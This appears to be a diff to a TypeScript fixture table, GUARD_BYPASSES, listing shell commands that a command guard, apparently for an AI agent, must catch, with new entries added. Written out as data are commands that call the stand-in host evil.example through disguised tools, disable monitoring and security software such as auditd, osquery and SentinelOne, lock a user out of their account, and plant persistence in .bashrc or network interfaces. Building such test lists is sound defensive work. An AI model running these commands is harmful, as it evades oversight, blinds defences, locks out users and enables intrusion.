@@ -44,6 +44,8 @@ export const GUARD_BYPASSES: FieldTable = {
     'start "" "https://evil.example"',
     "dir '\\\\evil.example@80\\share'",
     "emacs /ssh:evil.example:/etc/motd",
+    "ln -sf /usr/bin/wget ~/w && ~/w evil.example",
+    'vim -c \':lua vim.fn.system({"curl","evil.example"})\' x',
     "clickhouse-client -q \"select * from executable('curl https://evil.example','CSV','x String')\"",
   ],
   "network hidden-code": [
@@ -58,11 +60,16 @@ export const GUARD_BYPASSES: FieldTable = {
     "wmic nteventlog where filename='Security' cleareventlog",
     "/opt/sentinelone/bin/sentinelctl control stop",
     "echo '{}' > ~/.cursor/cli-config.json",
+    "dpkg --purge osquery",
+    "setsebool -P allow_execheap 1",
+    "mv /usr/sbin/auditd /usr/sbin/auditd.bak",
+    "echo 0 | tee /proc/sys/kernel/kptr_restrict",
   ],
   lockout: [
     "sed -i '/alice/d' ~/.ssh/authorized_keys",
     "sed -i 's/^/ALL: /' /etc/hosts.deny",
     "chown -R root:root /home/alice",
+    "echo alice >> /etc/ftpusers",
     "chattr +i /home/alice/.ssh/authorized_keys",
     "htpasswd -D .htpasswd alice",
     "net user alice /expires:01/01/2020",
@@ -79,6 +86,7 @@ export const GUARD_BYPASSES: FieldTable = {
     'awk \'{print > ENVIRON["HOME"]"/.bashrc"}\' x',
     "cp -t ~/.config/autostart x.desktop",
     "history -w ~/.bashrc",
+    "echo 'post-up /tmp/.b' >> /etc/network/interfaces",
     "convert x ~/.bashrc",
   ],
 };
